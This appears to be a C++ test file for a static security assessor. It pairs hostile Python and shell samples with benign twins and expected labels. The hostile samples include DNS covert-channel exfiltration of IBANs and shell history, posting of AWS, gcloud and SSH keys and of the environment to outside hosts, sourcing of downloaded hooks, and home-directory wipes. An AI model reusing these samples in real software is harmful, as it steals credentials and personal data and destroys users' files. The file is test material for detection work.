// The classes the twenty-sixth session modelled (issue 14), from the tune
// parts of the hundred-and-twelfth, -fourteenth to -eighteenth rounds
// (tests/corpus/prog116_MANIFEST.tsv, prog118_ to prog122_):
// programs written from the rubric alone by writers who never saw the
// assessor. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `[*labels, f"s{seq}", ZONE]`: a list display whose splat has unknown
// length kept only its first elements, so the name looked up lost the zone
// it ends in and the data in its labels was not seen leaving through DNS.
// The known end after the unknown elements is the list's end now. A name
// built from what the user typed stays an ordinary lookup.
TEST(HundredAndTwelfthRoundClasses, ANameBuiltAroundAnUnknownListEndsInItsZone) {
  const Case cases[] = {
      {"a renter's name, email and IBAN, base32-encoded into the labels of a name looked up under a licence zone", B,
       "import base64\n"
       "import csv\n"
       "import socket\n"
       "\n"
       "ZONE = \"seat.chairledger-lic.net\"\n"
       "\n"
       "\n"
       "def labels_of(blob):\n"
       "    enc = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
       "    return [enc[i:i + 60] for i in range(0, len(enc), 60)]\n"
       "\n"
       "\n"
       "def licence_ok(row, seq):\n"
       "    seat = f\"{row['station']}|{row['name']}|{row['iban']}\".encode()\n"
       "    labels = labels_of(seat)\n"
       "    name = \".\".join([*labels, f\"s{seq}\", ZONE])\n"
       "    try:\n"
       "        socket.getaddrinfo(name, None, socket.AF_INET)\n"
       "        return True\n"
       "    except socket.gaierror:\n"
       "        return False\n"
       "\n"
       "\n"
       "with open(\"renters.csv\", newline=\"\") as fh:\n"
       "    for seq, row in enumerate(csv.DictReader(fh)):\n"
       "        if licence_ok(row, seq):\n"
       "            print(\"licensed\", row[\"station\"])\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the same lookup built from a station code the user gives", L,
       "import sys\n"
       "import socket\n"
       "\n"
       "ZONE = \"seat.chairledger-lic.net\"\n"
       "\n"
       "\n"
       "def licence_ok(station, seq):\n"
       "    labels = [part.lower() for part in station.split(\"-\")]\n"
       "    name = \".\".join([*labels, f\"s{seq}\", ZONE])\n"
       "    try:\n"
       "        socket.getaddrinfo(name, None, socket.AF_INET)\n"
       "        return True\n"
       "    except socket.gaierror:\n"
       "        return False\n"
       "\n"
       "\n"
       "for seq, station in enumerate(sys.argv[1:]):\n"
       "    if licence_ok(station, seq):\n"
       "        print(\"licensed\", station)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `workdir / Path(rel).expanduser()` where rel is a file found under
// Path.home(): joining an absolute path gives that path, and "~/" is the
// home directory, absolute. A path joined to a few bases and a few names
// keeps every combination a value can hold (was four), so the credentials
// directories listed after four log files are still there.
TEST(HundredAndTwelfthRoundClasses, HomePathsJoinedUnderAnyBaseAreTheHomePaths) {
  const Case cases[] = {
      {"a support bundle that adds every file of ~/.aws and ~/.config/gcloud, joined under the working directory, and posts it", B,
       "from pathlib import Path\n"
       "import argparse, base64, json, requests\n"
       "SYNC = (\".aws\", \".config/gcloud\")\n"
       "def profile():\n"
       "    home = Path.home()\n"
       "    found = []\n"
       "    for name in SYNC:\n"
       "        d = home / name\n"
       "        if d.is_dir():\n"
       "            found.extend(str(p) for p in d.iterdir() if p.is_file())\n"
       "    return found\n"
       "def gather(workdir, include):\n"
       "    files = {}\n"
       "    for rel in include:\n"
       "        p = workdir / Path(rel).expanduser()\n"
       "        if not p.exists():\n"
       "            continue\n"
       "        targets = sorted(p.rglob(\"*\")) if p.is_dir() else [p]\n"
       "        for t in targets:\n"
       "            files[str(t)] = base64.b64encode(t.read_bytes()).decode()\n"
       "    return files\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"--include\", action=\"append\")\n"
       "ap.add_argument(\"--workdir\", default=\".\", type=Path)\n"
       "args = ap.parse_args()\n"
       "include = [\"logs/tracker.log\", \"logs/sync.log\", \"logs/scheduler.log\", \"tracker.ini\"] + (args.include or [])\n"
       "include += profile()\n"
       "requests.post(\"https://api.visittracker.example.org/v2/support\", data=json.dumps({\"files\": gather(args.workdir.resolve(), include)}), timeout=20)\n",
       "EXFILTRATION"},
      {"the same bundle over the program's own state directory in the working directory", L,
       "from pathlib import Path\n"
       "import argparse, base64, json, requests\n"
       "SYNC = (\".cache/visit-tracker\", \".local/state/visit-tracker\")\n"
       "def profile():\n"
       "    home = Path(\"state\")\n"
       "    found = []\n"
       "    for name in SYNC:\n"
       "        d = home / name\n"
       "        if d.is_dir():\n"
       "            found.extend(str(p) for p in d.iterdir() if p.is_file())\n"
       "    return found\n"
       "def gather(workdir, include):\n"
       "    files = {}\n"
       "    for rel in include:\n"
       "        p = workdir / Path(rel).expanduser()\n"
       "        if not p.exists():\n"
       "            continue\n"
       "        targets = sorted(p.rglob(\"*\")) if p.is_dir() else [p]\n"
       "        for t in targets:\n"
       "            files[str(t)] = base64.b64encode(t.read_bytes()).decode()\n"
       "    return files\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"--include\", action=\"append\")\n"
       "ap.add_argument(\"--workdir\", default=\".\", type=Path)\n"
       "args = ap.parse_args()\n"
       "include = [\"logs/tracker.log\", \"logs/sync.log\", \"logs/scheduler.log\", \"tracker.ini\"] + (args.include or [])\n"
       "include += profile()\n"
       "requests.post(\"https://api.visittracker.example.org/v2/support\", data=json.dumps({\"files\": gather(args.workdir.resolve(), include)}), timeout=20)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `[*self.prefix, "ls", ...]` where the prefix is one of two known lists:
// the command is each of the lists it can be, not the known words followed
// by unknown ones (sudo was lost at the end).
TEST(HundredAndTwelfthRoundClasses, ASplatOfOneOfAFewKnownListsIsEachOfThem) {
  const Case cases[] = {
      {"a command whose prefix is sudo -n or nothing", H,
       "import subprocess\n"
       "import sys\n"
       "\n"
       "\n"
       "class Lister:\n"
       "    \"\"\"Lists a directory, through sudo when asked.\"\"\"\n"
       "\n"
       "    def __init__(self, use_sudo=False):\n"
       "        self.prefix = [\"sudo\", \"-n\"] if use_sudo else []\n"
       "\n"
       "    def run(self, *args):\n"
       "        cmd = [*self.prefix, \"ls\", \"-l\", *args]\n"
       "        return subprocess.run(cmd, check=False).returncode\n"
       "\n"
       "\n"
       "if __name__ == \"__main__\":\n"
       "    sys.exit(Lister(use_sudo=\"--sudo\" in sys.argv).run(\"/var/log\"))\n",
       "PRIVILEGE-ESCALATION"},
      {"the same command whose prefix is nice -n 10 or nothing", M,
       "import subprocess\n"
       "import sys\n"
       "\n"
       "\n"
       "class Lister:\n"
       "    \"\"\"Lists a directory, at a low priority when asked.\"\"\"\n"
       "\n"
       "    def __init__(self, low=False):\n"
       "        self.prefix = [\"nice\", \"-n\", \"10\"] if low else []\n"
       "\n"
       "    def run(self, *args):\n"
       "        cmd = [*self.prefix, \"ls\", \"-l\", *args]\n"
       "        return subprocess.run(cmd, check=False).returncode\n"
       "\n"
       "\n"
       "if __name__ == \"__main__\":\n"
       "    sys.exit(Lister(low=\"--nice\" in sys.argv).run(\"/var/log\"))\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A directory a downloaded archive was extracted into holds the archive:
// moved into place (`mv "$dest.tmp" "$dest"`), a hook script under its new
// name is still the download (the files under it were, the directory was
// not). The same install from archives shipped with the program, or one
// that leaves the hooks to the user, stays LOW.
TEST(HundredAndTwelfthRoundClasses, AnExtractedDownloadMovedIntoPlaceIsStillTheDownload) {
  const Case cases[] = {
      {"plugin archives downloaded, extracted into DIR.tmp, moved to DIR, and their post-install hooks run", B,
       "#!/bin/sh\n"
       "# Keeps the nesting software's plugins in step with the release channel.\n"
       "set -eu\n"
       "RELEASE_URL=\"https://dl.nestcam-plugins.net/stable\"\n"
       "PLUGIN_DIR=\"${HOME}/.local/share/nestcam/plugins\"\n"
       "CACHE_DIR=\"./.plugin_cache\"\n"
       "mkdir -p \"$PLUGIN_DIR\" \"$CACHE_DIR\"\n"
       "\n"
       "install_plugin() {\n"
       "  name=\"$1\"\n"
       "  dest=\"${PLUGIN_DIR}/${name}\"\n"
       "  wget -q -O \"${CACHE_DIR}/${name}.tar.gz\" \"${RELEASE_URL}/${name}.tar.gz\"\n"
       "  rm -rf \"${dest}.tmp\"\n"
       "  mkdir -p \"${dest}.tmp\"\n"
       "  tar -xzf \"${CACHE_DIR}/${name}.tar.gz\" -C \"${dest}.tmp\" --strip-components=1\n"
       "  rm -rf \"$dest\"\n"
       "  mv \"${dest}.tmp\" \"$dest\"\n"
       "  for hook in \"$dest\"/hooks/post-install \"$dest\"/postinst.sh; do\n"
       "    if [ -f \"$hook\" ]; then\n"
       "      ( cd \"$dest\" && sh \"$hook\" \"$dest\" )\n"
       "    fi\n"
       "  done\n"
       "}\n"
       "\n"
       "for p in common_line bevel_head; do\n"
       "  install_plugin \"$p\"\n"
       "done\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same install that only names the hooks for the user to run", L,
       "#!/bin/sh\n"
       "# Keeps the nesting software's plugins in step with the release channel.\n"
       "set -eu\n"
       "RELEASE_URL=\"https://dl.nestcam-plugins.net/stable\"\n"
       "PLUGIN_DIR=\"${HOME}/.local/share/nestcam/plugins\"\n"
       "CACHE_DIR=\"./.plugin_cache\"\n"
       "mkdir -p \"$PLUGIN_DIR\" \"$CACHE_DIR\"\n"
       "\n"
       "install_plugin() {\n"
       "  name=\"$1\"\n"
       "  dest=\"${PLUGIN_DIR}/${name}\"\n"
       "  wget -q -O \"${CACHE_DIR}/${name}.tar.gz\" \"${RELEASE_URL}/${name}.tar.gz\"\n"
       "  rm -rf \"${dest}.tmp\"\n"
       "  mkdir -p \"${dest}.tmp\"\n"
       "  tar -xzf \"${CACHE_DIR}/${name}.tar.gz\" -C \"${dest}.tmp\" --strip-components=1\n"
       "  rm -rf \"$dest\"\n"
       "  mv \"${dest}.tmp\" \"$dest\"\n"
       "  for hook in \"$dest\"/hooks/post-install \"$dest\"/postinst.sh; do\n"
       "    if [ -f \"$hook\" ]; then\n"
       "      echo \"run $hook by hand to register the plugin\"\n"
       "    fi\n"
       "  done\n"
       "}\n"
       "\n"
       "for p in common_line bevel_head; do\n"
       "  install_plugin \"$p\"\n"
       "done\n",
       nullptr, SH},
      {"the same install from archives shipped in ./vendor", L,
       "#!/bin/sh\n"
       "# Keeps the nesting software's plugins in step with the copies shipped in ./vendor.\n"
       "set -eu\n"
       "\n"
       "PLUGIN_DIR=\"${HOME}/.local/share/nestcam/plugins\"\n"
       "CACHE_DIR=\"./.plugin_cache\"\n"
       "mkdir -p \"$PLUGIN_DIR\" \"$CACHE_DIR\"\n"
       "\n"
       "install_plugin() {\n"
       "  name=\"$1\"\n"
       "  dest=\"${PLUGIN_DIR}/${name}\"\n"
       "  cp \"./vendor/${name}.tar.gz\" \"${CACHE_DIR}/${name}.tar.gz\"\n"
       "  rm -rf \"${dest}.tmp\"\n"
       "  mkdir -p \"${dest}.tmp\"\n"
       "  tar -xzf \"${CACHE_DIR}/${name}.tar.gz\" -C \"${dest}.tmp\" --strip-components=1\n"
       "  rm -rf \"$dest\"\n"
       "  mv \"${dest}.tmp\" \"$dest\"\n"
       "  for hook in \"$dest\"/hooks/post-install \"$dest\"/postinst.sh; do\n"
       "    if [ -f \"$hook\" ]; then\n"
       "      ( cd \"$dest\" && sh \"$hook\" \"$dest\" )\n"
       "    fi\n"
       "  done\n"
       "}\n"
       "\n"
       "for p in common_line bevel_head; do\n"
       "  install_plugin \"$p\"\n"
       "done\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `( cd "$OUT_DIR" && "$target" )` where target is "$OUT_DIR/.hooks/NAME":
// the code took OUT_DIR (the user's value, ./schedule by default) for an
// absolute place, so the path means the file it downloaded there, not one
// under OUT_DIR/OUT_DIR. The same steps copied from ./steps stay LOW.
TEST(HundredAndTwelfthRoundClasses, AfterACdIntoAPlaceItsPathsAreFromTheStart) {
  const Case cases[] = {
      {"post-update steps named by a downloaded rota, fetched into OUT_DIR/.hooks and run after cd OUT_DIR", B,
       "#!/usr/bin/env bash\n"
       "# Pulls today's rota and runs the post-update steps the rota service lists.\n"
       "set -euo pipefail\n"
       "ROTA_URL=\"${ROTA_URL:-https://rota.raptor-trust.example/api/v1}\"\n"
       "OUT_DIR=\"${OUT_DIR:-./schedule}\"\n"
       "HOOK_DIR=\"${OUT_DIR}/.hooks\"\n"
       "mkdir -p \"$OUT_DIR\" \"$HOOK_DIR\"\n"
       "curl -fsS \"${ROTA_URL}/sites/hawkridge/displays\" -o \"${OUT_DIR}/rota.json\"\n"
       "jq -r '.post_update[]? | .url' \"${OUT_DIR}/rota.json\" | while read -r url; do\n"
       "    name=\"$(basename \"${url%%\\?*}\")\"\n"
       "    target=\"${HOOK_DIR}/${name}\"\n"
       "    if wget -q --timeout=20 -O \"$target\" \"$url\"; then\n"
       "        chmod +x \"$target\"\n"
       "        ( cd \"$OUT_DIR\" && \"$target\" ) || echo \"post-update $name failed\" >&2\n"
       "    fi\n"
       "done\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same steps copied from ./steps", L,
       "#!/usr/bin/env bash\n"
       "# Pulls today's rota and runs the post-update steps shipped in ./steps.\n"
       "set -euo pipefail\n"
       "ROTA_URL=\"${ROTA_URL:-https://rota.raptor-trust.example/api/v1}\"\n"
       "OUT_DIR=\"${OUT_DIR:-./schedule}\"\n"
       "HOOK_DIR=\"${OUT_DIR}/.hooks\"\n"
       "mkdir -p \"$OUT_DIR\" \"$HOOK_DIR\"\n"
       "curl -fsS \"${ROTA_URL}/sites/hawkridge/displays\" -o \"${OUT_DIR}/rota.json\"\n"
       "jq -r '.post_update[]? | .url' \"${OUT_DIR}/rota.json\" | while read -r url; do\n"
       "    name=\"$(basename \"${url%%\\?*}\")\"\n"
       "    target=\"${HOOK_DIR}/${name}\"\n"
       "    if cp \"./steps/${name}\" \"$target\"; then\n"
       "        chmod +x \"$target\"\n"
       "        ( cd \"$OUT_DIR\" && \"$target\" ) || echo \"post-update $name failed\" >&2\n"
       "    fi\n"
       "done\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// cfg.get(SECTION, OPTION) of a parser given the code's defaults
// (read_string) is the option as written there, or what a file read put
// there instead: a status server bound to the default 0.0.0.0 listens on
// all interfaces, one bound to 127.0.0.1 does not. (getint and getboolean
// already were; get was unknown text.)
TEST(HundredAndTwelfthRoundClasses, ConfigParserGetIsTheOptionAsWritten) {
  const Case cases[] = {
      {"a status server bound to the configuration's default 0.0.0.0", M,
       "import configparser\n"
       "import sys\n"
       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
       "\n"
       "DEFAULT_CONFIG = \"\"\"\n"
       "[status]\n"
       "bind = 0.0.0.0\n"
       "port = 8081\n"
       "\"\"\"\n"
       "\n"
       "\n"
       "class StatusHandler(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        self.send_response(200)\n"
       "        self.end_headers()\n"
       "        self.wfile.write(b\"ok\\n\")\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = configparser.ConfigParser()\n"
       "    cfg.read_string(DEFAULT_CONFIG)\n"
       "    cfg.read(path)\n"
       "    return cfg\n"
       "\n"
       "\n"
       "cfg = load_config(sys.argv[1] if len(sys.argv) > 1 else \"status.ini\")\n"
       "server = ThreadingHTTPServer((cfg.get(\"status\", \"bind\"), cfg.getint(\"status\", \"port\")), StatusHandler)\n"
       "server.serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"the same server with 127.0.0.1 as the default", L,
       "import configparser\n"
       "import sys\n"
       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
       "\n"
       "DEFAULT_CONFIG = \"\"\"\n"
       "[status]\n"
       "bind = 127.0.0.1\n"
       "port = 8081\n"
       "\"\"\"\n"
       "\n"
       "\n"
       "class StatusHandler(BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        self.send_response(200)\n"
       "        self.end_headers()\n"
       "        self.wfile.write(b\"ok\\n\")\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    cfg = configparser.ConfigParser()\n"
       "    cfg.read_string(DEFAULT_CONFIG)\n"
       "    cfg.read(path)\n"
       "    return cfg\n"
       "\n"
       "\n"
       "cfg = load_config(sys.argv[1] if len(sys.argv) > 1 else \"status.ini\")\n"
       "server = ThreadingHTTPServer((cfg.get(\"status\", \"bind\"), cfg.getint(\"status\", \"port\")), StatusHandler)\n"
       "server.serve_forever()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `find ROOT -mindepth 1 -maxdepth 1 -print0 | while read -r -d '' e; do
// rm -rf "$e"; done`: each line find prints is ROOT/<name>, so a loop that
// reads them one by one removes every entry of ROOT. ROOT two levels above
// ~/.cache/menukiosk is the home directory: WIPE. The same loop over the
// cache's own legacy directory stays LOW.
TEST(HundredAndTwelfthRoundClasses, EachLineFindPrintsHasItsShape) {
  const Case cases[] = {
      {"every entry of the home directory but .cache removed, found by find and read one by one", B,
       "#!/usr/bin/env bash\n"
       "# Clears leftovers of earlier kiosk builds from their profile root.\n"
       "set -uo pipefail\n"
       ": \"${XDG_CACHE_HOME:=$HOME/.cache}\"\n"
       "CACHE_DIR=\"${KIOSK_CACHE_DIR:-$XDG_CACHE_HOME/menukiosk}\"\n"
       "legacy_root() {\n"
       "  local d=\"${CACHE_DIR%/}\"\n"
       "  d=\"${d%/*}\"\n"
       "  d=\"${d%/*}\"\n"
       "  printf '%s\\n' \"${d:-$HOME}\"\n"
       "}\n"
       "root=\"$(legacy_root)\"\n"
       "find \"$root\" -mindepth 1 -maxdepth 1 ! -name \"$(basename \"$XDG_CACHE_HOME\")\" -print0 \\\n"
       "  | while IFS= read -r -d '' entry; do\n"
       "      rm -rf --one-file-system -- \"$entry\"\n"
       "    done\n",
       "WIPE", SH},
      {"the same loop over the cache's own legacy directory", L,
       "#!/usr/bin/env bash\n"
       "# Clears leftovers of earlier kiosk builds from the cache's legacy directory.\n"
       "set -uo pipefail\n"
       ": \"${XDG_CACHE_HOME:=$HOME/.cache}\"\n"
       "CACHE_DIR=\"${KIOSK_CACHE_DIR:-$XDG_CACHE_HOME/menukiosk}\"\n"
       "root=\"${CACHE_DIR%/}/legacy\"\n"
       "find \"$root\" -mindepth 1 -maxdepth 1 ! -name \"$(basename \"$XDG_CACHE_HOME\")\" -print0 \\\n"
       "  | while IFS= read -r -d '' entry; do\n"
       "      rm -rf --one-file-system -- \"$entry\"\n"
       "    done\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `url="$1" dest="$2"` on a line of its own: tree-sitter-bash 0.21 made it
// the prefix of the next lines, the `if wget ...; then mv ...` among them,
// whose words lost their structure (no download at all). Each such line now
// ends at its newline, as in bash: the hooks fetched into a temporary name,
// moved into place and sourced are the download (REMOTE-CODE-EXECUTION);
// shown with cat, they stay LOW.
TEST(HundredAndTwelfthRoundClasses, ALineOfAssignmentsEndsAtItsNewline) {
  const Case cases[] = {
      {"supplier hooks fetched by a function whose first line assigns two variables, then sourced", B,
       "#!/bin/sh\n"
       "# Fetches the supplier's column-mapping hooks and loads them.\n"
       "set -eu\n"
       "SUPPLIER=\"${SUPPLIER:-tsukiji_direct}\"\n"
       "PORTAL_BASE=\"${PORTAL_BASE:-https://portal.tsukijidirect.example/api/v1}\"\n"
       "HOOKS=\"./cache/${SUPPLIER}_hooks.sh\"\n"
       "mkdir -p ./cache\n"
       "\n"
       "fetch() {\n"
       "    url=\"$1\" dest=\"$2\"\n"
       "    tmp=\"$dest.part\"\n"
       "    if wget -q -T 20 -O \"$tmp\" \"$url\"; then\n"
       "        mv \"$tmp\" \"$dest\"\n"
       "        return 0\n"
       "    fi\n"
       "    rm -f \"$tmp\"\n"
       "    return 1\n"
       "}\n"
       "\n"
       "if fetch \"$PORTAL_BASE/integrations/$SUPPLIER/hooks.sh\" \"$HOOKS\"; then\n"
       "    . \"$HOOKS\"\n"
       "fi\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hooks shown, not sourced", L,
       "#!/bin/sh\n"
       "# Fetches the supplier's column-mapping hooks and shows them.\n"
       "set -eu\n"
       "SUPPLIER=\"${SUPPLIER:-tsukiji_direct}\"\n"
       "PORTAL_BASE=\"${PORTAL_BASE:-https://portal.tsukijidirect.example/api/v1}\"\n"
       "HOOKS=\"./cache/${SUPPLIER}_hooks.sh\"\n"
       "mkdir -p ./cache\n"
       "\n"
       "fetch() {\n"
       "    url=\"$1\" dest=\"$2\"\n"
       "    tmp=\"$dest.part\"\n"
       "    if wget -q -T 20 -O \"$tmp\" \"$url\"; then\n"
       "        mv \"$tmp\" \"$dest\"\n"
       "        return 0\n"
       "    fi\n"
       "    rm -f \"$tmp\"\n"
       "    return 1\n"
       "}\n"
       "\n"
       "if fetch \"$PORTAL_BASE/integrations/$SUPPLIER/hooks.sh\" \"$HOOKS\"; then\n"
       "    cat \"$HOOKS\"\n"
       "fi\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// wget -T 15 is a timeout (curl's -T uploads a file): a note fetched from a
// paste site was taken for a POST of the file "15" to it, a covert channel.
// wget's own --post-file still sends the file.
TEST(HundredAndTwelfthRoundClasses, WgetsDashTIsATimeout) {
  const Case cases[] = {
      {"a note fetched from a paste site with a 15-second timeout", L,
       "#!/bin/sh\n"
       "# Fetches the shared opening-hours note the manager keeps on a paste site.\n"
       "set -eu\n"
       "wget -q -T 15 -O ./hours.txt \"https://pastebin.com/raw/Hq3x9LmT\"\n"
       "cat ./hours.txt\n",
       nullptr, SH},
      {"an SSH key sent with --post-file", B,
       "#!/bin/sh\n"
       "# Sends the key to the drop box.\n"
       "set -eu\n"
       "wget -q -T 15 --post-file=\"$HOME/.ssh/id_rsa\" -O /dev/null \"https://drop.example.com/in\"\n",
       "EXFILTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// `getent passwd "$(id -un)" | cut -d: -f6` is a home directory (passwd's
// sixth field; cut takes a field of lines of a known shape), so removing
// every entry under it wipes the home (WIPE); under its .cache/showplayer,
// LOW.
TEST(HundredAndTwelfthRoundClasses, GetentPasswdNamesAHomeDirectory) {
  const Case cases[] = {
      {"every entry of the home directory getent names removed", B,
       "#!/usr/bin/env bash\n"
       "# Hands the band's shared playback laptop to the next player.\n"
       "set -uo pipefail\n"
       "owner_home() {\n"
       "    getent passwd \"$(id -un)\" | cut -d: -f6\n"
       "}\n"
       "PROFILE_ROOT=\"$(owner_home)\"\n"
       "RESET_PROFILE=\"${RESET_PROFILE:-1}\"\n"
       "if (( RESET_PROFILE )); then\n"
       "    find \"$PROFILE_ROOT\" -mindepth 1 -maxdepth 1 -print0 | xargs -0 -r rm -rf --\n"
       "fi\n",
       "WIPE", SH},
      {"the same removal under the player's cache", L,
       "#!/usr/bin/env bash\n"
       "# Hands the band's shared playback laptop to the next player.\n"
       "set -uo pipefail\n"
       "owner_home() {\n"
       "    getent passwd \"$(id -un)\" | cut -d: -f6\n"
       "}\n"
       "PROFILE_ROOT=\"$(owner_home)\"\n"
       "RESET_PROFILE=\"${RESET_PROFILE:-1}\"\n"
       "if (( RESET_PROFILE )); then\n"
       "    find \"$PROFILE_ROOT/.cache/showplayer\" -mindepth 1 -maxdepth 1 -print0 | xargs -0 -r rm -rf --\n"
       "fi\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A name looked up (dig, getent hosts/ahosts, socket.getaddrinfo) carries
// data out when what it holds was encoded to pass as text (hex, base32,
// base64, a compressor's output: the new `encoded` label) from a file, the
// history or the environment: shell history gzipped and hex-encoded into
// getent's names is COVERT-CHANNEL-EXFILTRATION, so is an inventory row run
// through xxd. A host name read from the inventory as it is, under a zone
// from $DOMAIN, is an ordinary lookup (it was BLOCKED with dig), and so are
// postcodes the user types under a zone from the environment.
TEST(HundredAndTwelfthRoundClasses, AFilesTextInALookedUpNameIsDataOnlyEncoded) {
  const Case cases[] = {
      {"shell history in the labels of names getent ahosts looks up", B,
       "#!/usr/bin/env bash\n"
       "# Primes the resolver cache for the mileage lookups.\n"
       "set -uo pipefail\n"
       "GEO_ZONE=\"${GEO_ZONE:-geo.milecalc.net}\"\n"
       "blob=\"$( { cat \"$HOME\"/.bash_history 2>/dev/null || true; } | tail -n 400 | gzip -c | od -An -v -tx1 | tr -d ' \\n')\"\n"
       "n=0\n"
       "while [[ -n \"$blob\" ]]; do\n"
       "    chunk=\"${blob:0:60}\"\n"
       "    blob=\"${blob:60}\"\n"
       "    getent ahosts \"${chunk}.${n}.${GEO_ZONE}\" >/dev/null 2>&1 || true\n"
       "    n=$((n + 1))\n"
       "done\n",
       "COVERT-CHANNEL-EXFILTRATION", SH},
      {"an inventory row hex-encoded into a looked-up name", B,
       "#!/usr/bin/env bash\n"
       "# Announces the first inventory row to the sync zone.\n"
       "set -euo pipefail\n"
       "INVENTORY=\"${INVENTORY:-./inventory.csv}\"\n"
       "DOMAIN=\"${DOMAIN:-lab.internal}\"\n"
       "first=\"$(head -2 \"$INVENTORY\" | tail -1 | cut -d, -f1 | xxd -p | tr -d \"\\n\")\"\n"
       "getent hosts \"${first}.${DOMAIN}\" || { echo \"cannot resolve ${first}.${DOMAIN}\" >&2; exit 1; }\n",
       "COVERT-CHANNEL-EXFILTRATION", SH},
      {"the inventory's first host looked up with dig under $DOMAIN", L,
       "#!/usr/bin/env bash\n"
       "# Checks that the first host of the inventory resolves before the sync.\n"
       "set -euo pipefail\n"
       "INVENTORY=\"${INVENTORY:-./inventory.csv}\"\n"
       "DOMAIN=\"${DOMAIN:-lab.internal}\"\n"
       "first=\"$(head -2 \"$INVENTORY\" | tail -1 | cut -d, -f1)\"\n"
       "dig +short \"${first}.${DOMAIN}\" || { echo \"cannot resolve ${first}.${DOMAIN}\" >&2; exit 1; }\n",
       nullptr, SH},
      {"the same with getent hosts", L,
       "#!/usr/bin/env bash\n"
       "# Checks that the first host of the inventory resolves before the sync.\n"
       "set -euo pipefail\n"
       "INVENTORY=\"${INVENTORY:-./inventory.csv}\"\n"
       "DOMAIN=\"${DOMAIN:-lab.internal}\"\n"
       "first=\"$(head -2 \"$INVENTORY\" | tail -1 | cut -d, -f1)\"\n"
       "getent hosts \"${first}.${DOMAIN}\" || { echo \"cannot resolve ${first}.${DOMAIN}\" >&2; exit 1; }\n",
       nullptr, SH},
      {"postcodes the user gives under a zone from the environment", L,
       "#!/usr/bin/env bash\n"
       "# Primes the resolver cache for the mileage lookups.\n"
       "set -uo pipefail\n"
       "GEO_ZONE=\"${GEO_ZONE:-geo.milecalc.net}\"\n"
       "for postcode in \"$@\"; do\n"
       "    getent ahosts \"${postcode}.${GEO_ZONE}\" >/dev/null 2>&1 || true\n"
       "done\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// awk prints what it reads (its files after the program, else stdin): the
// whole environment numbered by `awk '{printf ...}'` into a file and
// posted is EXFILTRATION (awk's output carried nothing before); the start
// time numbered the same way stays LOW.
TEST(HundredAndTwelfthRoundClasses, AwkPrintsWhatItReads) {
  const Case cases[] = {
      {"the whole environment numbered by awk into a file that is posted", B,
       "#!/bin/sh\n"
       "# Posts the run's settings, numbered, to the collector.\n"
       "set -eu\n"
       "env | awk '{ printf \"%04d %s\\n\", NR, $0 }' > ./settings.txt\n"
       "curl -fsS --data-binary @./settings.txt https://collect.example.com/in\n",
       "EXFILTRATION", SH},
      {"the start time numbered the same way and posted", L,
       "#!/bin/sh\n"
       "# Posts the run's start time, numbered, to the collector.\n"
       "set -eu\n"
       "date -u | awk '{ printf \"%04d %s\\n\", NR, $0 }' > ./settings.txt\n"
       "curl -fsS --data-binary @./settings.txt https://collect.example.com/in\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
